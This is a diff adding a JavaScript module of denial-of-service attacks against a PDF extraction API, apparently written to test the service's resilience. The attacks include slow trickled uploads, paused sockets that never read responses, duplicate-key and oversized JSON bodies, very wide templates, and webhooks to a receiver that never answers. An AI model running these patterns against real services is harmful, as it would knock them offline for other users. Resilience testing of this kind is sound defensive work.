@@ -1,0 +1,153 @@
+// What two users do who mean to stop a server for others.
+import { createServer } from "node:http"
+import { connect } from "node:net"
+import { hungryPdf, longLinePdf, slowPdf } from "./documents.mjs"
+
+/** @typedef {{ url: string, key: string, templateId: string, signal: AbortSignal }} Attacker */
+
+/**
+ * A request of the attacker's; its answer is read to the end. Answers of all kinds are welcome.
+ * @param {Attacker} attacker
+ * @param {string} method
+ * @param {string} path
+ * @param {string | undefined} body
+ */
+const call = async ({ key, signal, url }, method, path, body = undefined) => {
+  const headers = { authorization: `Bearer ${key}`, "content-type": "application/json" }
+  const response = await fetch(`${url}/v1${path}`, { method, headers, signal, ...(body === undefined ? {} : { body }) })
+  for await (const _ of response.body ?? []) if (signal.aborted) return ""
+  return response.status
+}
+
+/**
+ * The same over and over, `count` at a time, until the signal. What fails is tried again after a while.
+ * @param {AbortSignal} signal
+ * @param {number} count
+ * @param {() => Promise<unknown>} work
+ */
+const over = (signal, count, work) =>
+  Promise.all(
+    Array.from({ length: count }, async () => {
+      while (!signal.aborted) {
+        const begin = performance.now()
+        await work().catch(() => {})
+        // An attacker's client shares the processors with the server that it attacks.
+        await new Promise((resolve) => setTimeout(resolve, Math.max(20, 100 - (performance.now() - begin))))
+      }
+    })
+  )
+
+/**
+ * A connection that sends what it is given and reads nothing.
+ * @param {Attacker} attacker
+ * @param {string} text
+ * @param {(socket: import("node:net").Socket) => void} then
+ */
+const raw = ({ signal, url }, text, then = () => {}) =>
+  new Promise((resolve) => {
+    const { hostname, port } = new URL(url)
+    const socket = connect(Number(port), hostname, () => socket.write(text))
+    then(socket)
+    const end = () => socket.destroy()
+    signal.addEventListener("abort", end, { once: true })
+    if (signal.aborted) end()
+    socket
+      .on("error", () => {})
+      .on("close", () => {
+        signal.removeEventListener("abort", end)
+        resolve(undefined)
+      })
+  })
+
+const headOf = (/** @type {Attacker} */ { key }, /** @type {string} */ line, /** @type {string} */ more = "") =>
+  `${line} HTTP/1.1\r\nhost: a\r\nauthorization: Bearer ${key}\r\n${more}\r\n`
+
+const runs = (/** @type {() => Buffer} */ document, /** @type {number} */ count) => {
+  const pdfBase64 = document().toString("base64")
+  return (/** @type {Attacker} */ attacker) => {
+    const { signal, templateId } = attacker
+    const body = JSON.stringify({ templateId, fileName: "a.pdf", mimeType: "application/pdf", pdfBase64 })
+    return over(signal, count, () => call(attacker, "POST", "/extractions/run", body))
+  }
+}
+
+const slowUploads = (/** @type {Attacker} */ attacker) => {
+  const more = "content-type: application/json\r\ncontent-length: 20000000\r\n"
+  const head = headOf(attacker, "POST /v1/extractions/run", more)
+  return over(attacker.signal, 12, () =>
+    raw(attacker, `${head}{"pdfBase64":"`, (socket) => {
+      const timer = setInterval(() => socket.write("AAAA"), 500)
+      socket.on("close", () => clearInterval(timer))
+    })
+  )
+}
+
+const unreadLists = (/** @type {Attacker} */ attacker) =>
+  over(attacker.signal, 30, () =>
+    raw(attacker, headOf(attacker, "GET /v1/extractions?limit=100").repeat(5), (socket) => socket.pause())
+  )
+
+const readLists = (/** @type {Attacker} */ attacker) =>
+  over(attacker.signal, 4, () => call(attacker, "GET", "/extractions?limit=100"))
+
+const templatesRead = (/** @type {Attacker} */ attacker) =>
+  over(attacker.signal, 2, () => call(attacker, "GET", "/templates"))
+
+const manyTemplates = (/** @type {Attacker} */ attacker) => {
+  const variables = Array.from({ length: 100 }, (_, index) => ({ key: `a${index}`, type: "string", context: "A text" }))
+  return over(attacker.signal, 2, () =>
+    call(attacker, "POST", "/templates", JSON.stringify({ name: `Many ${Math.random()}`, variables }))
+  )
+}
+
+/** An array of thousands of fields with long names, and runs with it. */
+const wideTemplates = (/** @type {Attacker} */ attacker) => {
+  const fields = Array.from({ length: 4_000 }, (_, index) => ({
+    key: `${"long".repeat(40)}${index}`,
+    type: "string",
+    context: "A text"
+  }))
+  const rows = { key: "rows", type: "array", arrayType: "object", context: "Rows", fields }
+  return over(attacker.signal, 1, () =>
+    call(attacker, "POST", "/templates", JSON.stringify({ name: `Wide ${Math.random()}`, variables: [rows] }))
+  )
+}
+
+const sameMembers = (/** @type {Attacker} */ attacker) => {
+  const body = `{${'"pdfBase64":"AAAA",'.repeat(60_000)}"fileName":"a.pdf"}`
+  return over(attacker.signal, 2, () => call(attacker, "POST", "/extractions/run", body))
+}
+
+/** A receiver that takes deliveries and never answers. */
+const silentReceivers = async (/** @type {Attacker} */ attacker) => {
+  const receiver = createServer(() => {})
+  await new Promise((resolve) => receiver.listen(0, "127.0.0.1", () => resolve(undefined)))
+  const address = receiver.address()
+  const port = typeof address === "object" && address !== null ? address.port : 0
+  const body = JSON.stringify({
+    url: `http://127.0.0.1:${port}/silent`,
+    events: ["extraction.completed", "extraction.failed"]
+  })
+  for (let count = 0; count < 5; count++) await call(attacker, "POST", "/webhooks", body).catch(() => {})
+  await new Promise((resolve) => {
+    attacker.signal.addEventListener("abort", resolve, { once: true })
+    if (attacker.signal.aborted) resolve(undefined)
+  })
+  receiver.closeAllConnections()
+  receiver.close()
+}
+
+/** Each goes on until the attacker's signal. */
+export const attacks = () => ({
+  "slow documents": runs(slowPdf, 6),
+  "hungry documents": runs(hungryPdf, 3),
+  "a line of 200 kB": runs(longLinePdf, 1),
+  "slow uploads": slowUploads,
+  "lists that nobody reads": unreadLists,
+  "large lists": readLists,
+  "lists of templates": templatesRead,
+  "many templates": manyTemplates,
+  "wide templates": wideTemplates,
+  "the same member many times": sameMembers,
+  "receivers that never answer": silentReceivers
+})
